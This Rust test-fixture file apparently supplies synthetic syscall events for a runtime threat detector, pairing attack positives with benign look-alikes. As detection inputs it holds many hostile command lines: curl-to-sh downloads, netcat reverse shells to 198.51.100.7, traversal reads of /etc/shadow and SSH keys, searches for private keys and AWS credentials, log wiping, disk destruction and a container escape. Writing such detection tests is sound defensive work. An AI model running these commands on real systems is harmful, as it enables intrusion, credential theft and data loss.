//! The events of the coverage test: positives for every upstream stable rule, and their
//! neighbours (benign look-alikes and deliberate differences).

use falcod_probe::extract::{open_flags as of, SyscallEvent};

use super::event_builder::{Proc, ALL_CAPS};

/// (upstream rule, what happens, the event).
pub fn positives() -> Vec<(&'static str, &'static str, SyscallEvent)> {
    let web_app = || Proc::new("php-fpm: pool www").parents(&["php-fpm: master process"]);
    let shell_in_pod = || {
        Proc::new("bash")
            .in_container("docker.io/library/nginx")
            .parents(&["runc init"])
    };
    vec![
        (
            "Directory traversal monitored file read",
            "a PHP worker reads /etc/passwd through ../../../",
            web_app().openat(
                "/var/www/html/../../../etc/passwd",
                "/etc/passwd",
                of::RDONLY,
                7,
            ),
        ),
        (
            "Directory traversal monitored file read",
            "a refused open of root's SSH key through a traversal",
            web_app().openat(
                "/var/www/html/uploads/../../../../root/.ssh/id_rsa",
                "/root/.ssh/id_rsa",
                of::RDONLY,
                -13,
            ),
        ),
        (
            "Directory traversal monitored file read",
            "a user's authorized_keys through a traversal",
            web_app().openat(
                "static/../../../home/alice/.ssh/authorized_keys",
                "/home/alice/.ssh/authorized_keys",
                of::RDONLY,
                7,
            ),
        ),
        (
            "Directory traversal monitored file read",
            "a key file elsewhere, named id_rsa, through a traversal",
            web_app().openat(
                "/srv/app/files/../../backup/id_rsa.old",
                "/srv/backup/id_rsa.old",
                of::RDONLY,
                7,
            ),
        ),
        (
            "Read sensitive file trusted after startup",
            "nginx, running for an hour, reads /etc/shadow",
            Proc::new("nginx: worker process")
                .parents(&["nginx: master process /usr/sbin/nginx"])
                .user(33, "www-data")
                .read("/etc/shadow"),
        ),
        (
            "Read sensitive file trusted after startup",
            "postgres, running for a day, reads a PAM policy",
            Proc::new("postgres -D /var/lib/postgresql/15/main")
                .started_secs_ago(86_400)
                .user(111, "postgres")
                .read("/etc/pam.d/common-auth"),
        ),
        (
            "Read sensitive file untrusted",
            "cat reads /etc/shadow",
            Proc::new("cat /etc/shadow")
                .parents(&["bash", "sshd: alice@pts/0"])
                .tty(34816)
                .read("/etc/shadow"),
        ),
        (
            "Read sensitive file untrusted",
            "python reads a sudoers drop-in in a container",
            Proc::new("python3 steal.py")
                .in_container("docker.io/library/python")
                .read("/etc/sudoers.d/90-cloud-init-users"),
        ),
        (
            "Run shell untrusted",
            "nginx starts sh -c",
            Proc::new("sh -c id")
                .parents(&["nginx: worker process", "nginx: master process"])
                .user(33, "www-data")
                .exec(),
        ),
        (
            "Run shell untrusted",
            "a shell two levels below apache (through php)",
            Proc::new("bash -i")
                .parents(&["php -f shell.php", "apache2 -k start"])
                .user(33, "www-data")
                .exec(),
        ),
        (
            "Run shell untrusted",
            "a Java Kafka broker starts a shell",
            Proc::new("sh -c curl http://203.0.113.9/x | sh")
                .parents(&["java -Xmx1G kafka.Kafka /etc/kafka/server.properties"])
                .exec(),
        ),
        (
            "System user interactive",
            "www-data runs ls from an SSH session",
            Proc::new("ls -la")
                .parents(&["bash", "sshd: www-data@pts/1", "sshd -D"])
                .user(33, "www-data")
                .login(1000, "alice")
                .tty(34817)
                .exec(),
        ),
        (
            "Terminal shell in container",
            "kubectl exec -it: bash with a terminal, parent runc",
            shell_in_pod().tty(34816).exec(),
        ),
        (
            "Terminal shell in container",
            "a shell with a terminal whose parent is gone",
            Proc::new("sh")
                .in_container("docker.io/library/alpine")
                .orphan()
                .tty(34818)
                .exec(),
        ),
        (
            "Contact K8S API Server From Container",
            "curl in a pod calls the API server",
            Proc::new("curl -k https://kubernetes.default.svc/api")
                .in_container("docker.io/library/nginx")
                .connect(
                    ([10, 244, 1, 17], 51234),
                    ([10, 96, 0, 1], 443),
                    Some("kubernetes.default.svc.cluster.local"),
                ),
        ),
        (
            "Netcat Remote Code Execution in Container",
            "nc -e /bin/sh in a container",
            Proc::new("nc -e /bin/sh 198.51.100.7 4444")
                .in_container("docker.io/library/busybox")
                .exec(),
        ),
        (
            "Netcat Remote Code Execution in Container",
            "ncat --sh-exec in a container",
            Proc::new("ncat --sh-exec /bin/bash -l 4444")
                .in_container("docker.io/library/busybox")
                .exec(),
        ),
        (
            "Netcat Remote Code Execution in Container",
            "ncat --lua-exec in a container",
            Proc::new("ncat --lua-exec shell.lua 198.51.100.7 4444")
                .in_container("docker.io/library/busybox")
                .exec(),
        ),
        (
            "Search Private Keys or Passwords",
            "grep for RSA private key headers",
            Proc::new("grep -rl BEGIN RSA PRIVATE /home").exec(),
        ),
        (
            "Search Private Keys or Passwords",
            "find for ed25519 keys",
            Proc::new("find / -name id_ed25519").exec(),
        ),
        (
            "Clear Log Activities",
            "a shell empties /var/log/auth.log",
            Proc::new("bash").write("/var/log/auth.log", of::TRUNC | of::CREAT),
        ),
        (
            "Clear Log Activities",
            "an application log with a known name, outside /var/log, emptied",
            Proc::new("python3 wipe.py").write("/opt/db/mysqld.log", of::TRUNC),
        ),
        (
            "Remove Bulk Data from Disk",
            "shred",
            Proc::new("shred -u -z /var/lib/app/data.db").exec(),
        ),
        (
            "Remove Bulk Data from Disk",
            "mkfs over a data disk",
            Proc::new("mkfs -t ext4 /dev/sdb").exec(),
        ),
        (
            "Create Symlink Over Sensitive Files",
            "ln -s /etc/shadow",
            Proc::new("ln -s /etc/shadow /tmp/s").symlink("/etc/shadow", "/tmp/s"),
        ),
        (
            "Create Symlink Over Sensitive Files",
            "ln -s /root/",
            Proc::new("ln -s /root/ /tmp/r").symlink("/root/", "/tmp/r"),
        ),
        (
            "Create Hardlink Over Sensitive Files",
            "ln /etc/shadow",
            Proc::new("ln /etc/shadow /tmp/s").hardlink("/etc/shadow", "/tmp/s"),
        ),
        (
            "Packet socket created in container",
            "AF_PACKET socket in a container",
            Proc::new("python3 arpspoof.py")
                .in_container("docker.io/library/python")
                .socket(17, "AF_PACKET"),
        ),
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            "bash in a container puts a TCP socket on stdin",
            shell_in_pod().dup2_socket(0),
        ),
        (
            "Linux Kernel Module Injection Detected",
            "insmod in a privileged container",
            Proc::new("insmod /tmp/rootkit.ko")
                .container("docker.io/library/ubuntu", true, "shop")
                .caps(ALL_CAPS)
                .finit_module(),
        ),
        (
            "Debugfs Launched in Privileged Container",
            "debugfs on the host disk from a privileged container",
            Proc::new("debugfs -w /dev/sda1")
                .container("docker.io/library/ubuntu", true, "shop")
                .exec(),
        ),
        (
            "Detect release_agent File Container Escapes",
            "a root shell in a container writes release_agent",
            Proc::new("sh")
                .container("docker.io/library/ubuntu", true, "shop")
                .caps(ALL_CAPS)
                .write("/tmp/cgrp/release_agent", of::TRUNC),
        ),
        (
            "PTRACE attached to process",
            "PTRACE_ATTACH",
            Proc::new("/tmp/inject 1234").ptrace(16, "PTRACE_ATTACH"),
        ),
        (
            "PTRACE attached to process",
            "PTRACE_POKETEXT",
            Proc::new("/tmp/inject 1234").ptrace(4, "PTRACE_POKETEXT"),
        ),
        (
            "PTRACE attached to process",
            "PTRACE_SETREGS",
            Proc::new("/tmp/inject 1234").ptrace(13, "PTRACE_SETREGS"),
        ),
        (
            "PTRACE attached to process",
            "PTRACE_SEIZE",
            Proc::new("/tmp/inject 1234").ptrace(0x4206, "PTRACE_SEIZE"),
        ),
        (
            "PTRACE anti-debug attempt",
            "PTRACE_TRACEME",
            Proc::new("/tmp/malware").ptrace(0, "PTRACE_TRACEME"),
        ),
        (
            "Find AWS Credentials",
            "grep for AWS secret keys",
            Proc::new("grep -ri aws_secret_access_key /home").exec(),
        ),
        (
            "Find AWS Credentials",
            "find for .aws/credentials",
            Proc::new("find / -path */.aws/credentials").exec(),
        ),
        (
            "Execution from /dev/shm",
            "a binary in /dev/shm",
            Proc::new("/dev/shm/kworker").exec(),
        ),
        (
            "Execution from /dev/shm",
            "./x while working in /dev/shm",
            Proc::new("./x")
                .cwd("/dev/shm/")
                .exepath("/dev/shm/x")
                .exec(),
        ),
        (
            "Execution from /dev/shm",
            "sh -c /dev/shm/run.sh",
            Proc::new("sh -c /dev/shm/run.sh").exec(),
        ),
        (
            "Execution from /dev/shm",
            "bash -i /dev/shm/run.sh",
            Proc::new("bash -i /dev/shm/run.sh").exec(),
        ),
        (
            "Execution from /dev/shm",
            "bash /dev/shm/run.sh",
            Proc::new("bash /dev/shm/run.sh").exec(),
        ),
        (
            "Execution from /dev/shm",
            "python3 ./miner.py while working in /dev/shm",
            Proc::new("python3 ./miner.py").cwd("/dev/shm/").exec(),
        ),
        (
            "Drop and execute new binary in container",
            "a downloaded binary runs from the container's upper layer",
            Proc::new("/tmp/xmrig -o pool:3333")
                .in_container("docker.io/library/node")
                .upper_layer()
                .exec(),
        ),
        (
            "Disallowed SSH Connection Non Standard Port",
            "ssh to port 443 on the internet",
            Proc::new("ssh -p 443 -R 9000:localhost:22 tunnel@203.0.113.50").connect(
                ([10, 0, 0, 5], 51000),
                ([203, 0, 113, 50], 443),
                None,
            ),
        ),
        (
            "Fileless execution via memfd_create",
            "a program runs from a memfd",
            Proc::new("kdevtmpfs")
                .exepath("memfd:payload (deleted)")
                .exe_in_memfd()
                .parents(&["python3 loader.py"])
                .exec(),
        ),
    ]
}

/// Events for the falcod rules that go beyond the upstream stable file: (falcod rule, what
/// happens, the event).
pub fn falcod_only_positives() -> Vec<(&'static str, &'static str, SyscallEvent)> {
    vec![
        (
            "Write below etc by unexpected program",
            "python drops a cron job",
            Proc::new("python3 implant.py").write("/etc/cron.d/backdoor", of::CREAT),
        ),
        (
            "Write below binary directory",
            "curl replaces /usr/bin/ls",
            Proc::new("curl -o /usr/bin/ls http://203.0.113.9/ls")
                .write("/usr/bin/ls", of::TRUNC | of::CREAT),
        ),
        (
            "Setuid or setgid bit set",
            "chmod u+s on a copy of bash",
            Proc::new("chmod u+s /tmp/.bash").chmod(
                "/tmp/.bash",
                0o4755,
                "S_ISUID|S_IRUSR|S_IWUSR|S_IXUSR|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH",
            ),
        ),
    ]
}

pub struct Neighbour {
    pub what: &'static str,
    pub event: SyscallEvent,
    pub upstream: &'static [&'static str],
    pub falcod: &'static [&'static str],
}

pub fn neighbours() -> Vec<Neighbour> {
    vec![
        // Benign: both rulesets stay quiet.
        Neighbour {
            what: "sshd reads /etc/shadow to check a password",
            event: Proc::new("sshd: alice [priv]").read("/etc/shadow"),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "sudo reads /etc/sudoers",
            event: Proc::new("sudo -i")
                .parents(&["bash"])
                .user(1000, "alice")
                .read("/etc/sudoers"),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "a shell without a terminal on the host (a cron job)",
            event: Proc::new("sh -c run-parts /etc/cron.hourly")
                .parents(&["cron -f"])
                .exec(),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "a shell started from the exec'ed shell of a kubectl exec session",
            event: Proc::new("sh -c ls")
                .in_container("docker.io/library/nginx")
                .parents(&["bash", "runc init"])
                .tty(34816)
                .exec(),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "a configuration file opened through a single ../",
            event: Proc::new("nginx -t").openat("/etc/nginx/../hosts", "/etc/hosts", of::RDONLY, 3),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "a loader path climbing three levels to /etc",
            event: Proc::new("ld.so").openat(
                "/usr/lib/x86_64-linux-gnu/../../../etc/ld.so.cache",
                "/etc/ld.so.cache",
                of::RDONLY,
                3,
            ),
            upstream: &["Directory traversal monitored file read"],
            falcod: &["Monitored file opened through path traversal"],
        },
        Neighbour {
            what: "a shell lists /dev/shm (runs nothing from it)",
            event: Proc::new("sh -c ls -l /dev/shm").exec(),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "the DHCP client opens a packet socket on the host",
            event: Proc::new("dhclient -4 eth0").socket(17, "AF_PACKET"),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "systemd hands an accepted socket to an inetd-style service on the host",
            event: Proc::new("systemd").dup2_socket(0),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "runc re-executes itself from a memory file",
            event: Proc::new("runc init")
                .exepath("memfd:runc_cloned:/proc/self/exe")
                .exe_in_memfd()
                .parents(&["containerd-shim"])
                .exec(),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "modprobe loads a module on the host",
            event: Proc::new("modprobe nf_tables")
                .caps(ALL_CAPS)
                .finit_module(),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "udev loads a driver for a new device",
            event: Proc::new("(udev-worker)").caps(ALL_CAPS).finit_module(),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "apt rewrites its solver log below /var/log/apt",
            event: Proc::new("apt-get upgrade")
                .write("/var/log/apt/eipp.log.xz", of::TRUNC | of::CREAT),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "systemd reads a PAM policy to start a user manager",
            event: Proc::new("systemd --user").read("/etc/pam.d/systemd-user"),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "ssh to a server on port 22",
            event: Proc::new("ssh deploy@203.0.113.50").connect(
                ([10, 0, 0, 5], 51000),
                ([203, 0, 113, 50], 22),
                None,
            ),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "a pod in kube-system talks to the API server",
            event: Proc::new("coredns")
                .container("registry.k8s.io/coredns/coredns", false, "kube-system")
                .connect(
                    ([10, 244, 0, 3], 40000),
                    ([10, 96, 0, 1], 443),
                    Some("kubernetes.default.svc.cluster.local"),
                ),
            upstream: &[],
            falcod: &[],
        },
        Neighbour {
            what: "logrotate-style append to a log, no truncation",
            event: Proc::new("rsyslogd").write("/var/log/syslog", of::APPEND),
            upstream: &[],
            falcod: &[],
        },
        // Same verdict on purpose: both alert on a debugger attaching (neither trusts
        // debuggers by default).
        Neighbour {
            what: "gdb attaches to a process",
            event: Proc::new("gdb -p 1234").ptrace(16, "PTRACE_ATTACH"),
            upstream: &["PTRACE attached to process"],
            falcod: &["Process attached with ptrace"],
        },
        // Deliberate differences: falcod alerts where upstream does not.
        // /etc/gshadow holds group password hashes, as sensitive as /etc/shadow.
        Neighbour {
            what: "cat reads /etc/gshadow",
            event: Proc::new("cat /etc/gshadow").read("/etc/gshadow"),
            upstream: &[],
            falcod: &["Credential file read by unexpected program"],
        },
        // A reverse shell is as bad on the host as in a container.
        Neighbour {
            what: "nc -e on the host",
            event: Proc::new("nc -e /bin/sh 198.51.100.7 4444").exec(),
            upstream: &[],
            falcod: &["Netcat with program execution"],
        },
        Neighbour {
            what: "bash on the host puts a TCP socket on stdout",
            event: Proc::new("bash -i").dup2_socket(1),
            upstream: &[],
            falcod: &["Standard stream redirected to network socket"],
        },
        // On the host, only the module loaders are expected to load modules; upstream watches
        // containers only.
        Neighbour {
            what: "an unknown program loads a kernel module on the host",
            event: Proc::new("/tmp/.x/loader").finit_module(),
            upstream: &[],
            falcod: &["Kernel module loaded"],
        },
        // Upstream requires CAP_SYS_ADMIN; falcod alerts on the attempt itself.
        Neighbour {
            what: "an unprivileged container process writes release_agent",
            event: Proc::new("sh")
                .in_container("docker.io/library/alpine")
                .user(1000, "app")
                .write("/sys/fs/cgroup/memory/release_agent", of::TRUNC),
            upstream: &[],
            falcod: &["Cgroup release_agent written from a container"],
        },
        // mkfs.ext4 is the same tool as mke2fs under another name.
        Neighbour {
            what: "mkfs.ext4 formats a disk",
            event: Proc::new("mkfs.ext4 /dev/sdb1").exec(),
            upstream: &[],
            falcod: &["Data wiping tool started"],
        },
        // ssh to 8022 is not in either list of disguise ports: quiet in both.
        Neighbour {
            what: "ssh to port 8022",
            event: Proc::new("ssh -p 8022 git@203.0.113.50").connect(
                ([10, 0, 0, 5], 51000),
                ([203, 0, 113, 50], 8022),
                None,
            ),
            upstream: &[],
            falcod: &[],
        },
        // A Tomcat (Catalina) server starting a shell: upstream leaves it opt-in, falcod
        // watches it (Struts-style RCE lands there).
        Neighbour {
            what: "Tomcat starts a shell",
            event: Proc::new("sh -c whoami")
                .parents(&["java org.apache.catalina.startup.Bootstrap start"])
                .exec(),
            upstream: &[],
            falcod: &["Shell started by a server process"],
        },
    ]
}
